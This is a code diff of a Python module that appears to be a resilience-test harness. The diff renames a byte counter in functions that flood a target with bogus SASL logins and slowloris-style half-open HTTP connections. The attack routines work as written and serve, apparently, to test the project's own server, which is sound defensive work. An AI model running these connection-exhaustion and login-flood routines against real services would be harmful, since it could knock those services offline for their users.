@@ -83,7 +83,7 @@ def half_open_sasl(target: AttackTarget) -> int:
 def wrong_logins(target: AttackTarget) -> int:
     """1,000 logins of users that are not there, each over a connection of its own."""
     handshake = request(SASL_HANDSHAKE, 1, mechanism="SCRAM-SHA-256")
-    sent = 0
+    sent_bytes = 0
     for login_number in range(LOGINS):
         first_message = f"n,,n=user{login_number},r=nonce".encode()
         frame_bytes = handshake + request(SASL_AUTHENTICATE, 2, auth_bytes=first_message)
@@ -91,9 +91,9 @@ def wrong_logins(target: AttackTarget) -> int:
             contextlib.suppress(OSError),
             socket.create_connection(_address(target, "SASL"), timeout=60.0) as connection,
         ):
-            sent += send_quietly(connection, frame_bytes)
+            sent_bytes += send_quietly(connection, frame_bytes)
             read_answers(connection, 2)
-    return sent
+    return sent_bytes
 
 
 def half_open_requests(target: AttackTarget) -> int:
@@ -105,12 +105,12 @@ def half_open_requests(target: AttackTarget) -> int:
             opened.enter_context(socket.create_connection((host, int(port)), timeout=30.0))
             for _ in range(HALF_OPEN)
         ]
-        sent = sum(send_quietly(connection, head) for connection in connections)
+        sent_bytes = sum(send_quietly(connection, head) for connection in connections)
         for round_number in range(3):
             time.sleep(1.0)
             line = b"X-%d: %s\r\n" % (round_number, b"x" * 10_000)
-            sent += sum(send_quietly(connection, line) for connection in connections)
-    return sent
+            sent_bytes += sum(send_quietly(connection, line) for connection in connections)
+    return sent_bytes
 
 
 def _address(target: AttackTarget, listener: str) -> tuple[str, int]:
@@ -125,9 +125,9 @@ def _hold(target: AttackTarget, listener: str, beginning: bytes) -> int:
             opened.enter_context(socket.create_connection(_address(target, listener), timeout=30.0))
             for _ in range(HALF_OPEN)
         ]
-        sent = sum(send_quietly(connection, beginning) for connection in connections)
+        sent_bytes = sum(send_quietly(connection, beginning) for connection in connections)
         time.sleep(HELD_S)
-    return sent
+    return sent_bytes
 
 
 ATTACKS: Final = (
